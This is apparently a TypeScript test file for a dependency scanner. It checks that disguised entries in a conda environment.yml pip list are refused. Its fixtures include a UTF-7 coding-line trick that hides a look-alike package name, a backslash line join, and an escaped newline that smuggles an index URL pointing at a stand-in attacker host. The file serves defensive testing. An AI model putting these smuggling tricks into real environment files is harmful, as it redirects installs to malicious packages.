/**
 * fix60conda: an environment.yml's `pip:` list read as the requirements file conda writes
 * from it (the items joined by `\n`, UTF-8) and pip decodes (`pipDecode`: a coding line among
 * the first two lines). `'# -*- coding: utf-7 -*-'` then `'#x +AAo-torcj'` is a `torcj`
 * line to pip and two comments to a reader of single items: before the fix warden-scan found
 * the manifest and the notebook's `conda env create` clean. The kernel's twin:
 * tests/deps/test_fix60_conda_pip_list.py.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import {
  installRules,
  scratchDir,
  writeNotebook
} from '../testing/scan-fixture';

function folder(pipItems: string[]): string {
  const dir = scratchDir('fix60-condapip-');
  const items = pipItems.map(item => `    - ${item}\n`).join('');
  fs.writeFileSync(
    path.join(dir, 'environment.yml'),
    `name: x\ndependencies:\n  - pip\n  - pip:\n${items}`
  );
  writeNotebook(path.join(dir, 'setup.ipynb'), [
    '!conda env create -f environment.yml'
  ]);
  return dir;
}

const UTF7 = ["'# -*- coding: utf-7 -*-'", "'#x +AAo-torcj'"];

describe('fix60conda: the pip list read as the file conda writes', () => {
  it.each(['environment.yml', 'setup.ipynb'])(
    'a coding line among the first items: %s is refused',
    file => {
      const dir = folder(UTF7);
      expect(installRules([path.join(dir, file)])).toContain(
        'install-unreadable'
      );
    }
  );

  it('an item ending in a backslash joins the next', () => {
    const dir = folder(["'tor\\'", 'cj']);
    expect(installRules([path.join(dir, 'environment.yml')])).toContain(
      'install-imitation-name'
    );
  });

  it('a double-quoted escape making two lines is refused', () => {
    const dir = folder(['"black\\n--index-url http://evil.example/simple"']);
    expect(installRules([path.join(dir, 'environment.yml')])).not.toEqual([]);
  });

  it('control: an ordinary list with a UTF-8 coding line is read', () => {
    const dir = folder(["'# -*- coding: utf-8 -*-'", 'black']);
    expect(installRules([path.join(dir, 'environment.yml')])).toEqual([]);
  });
});
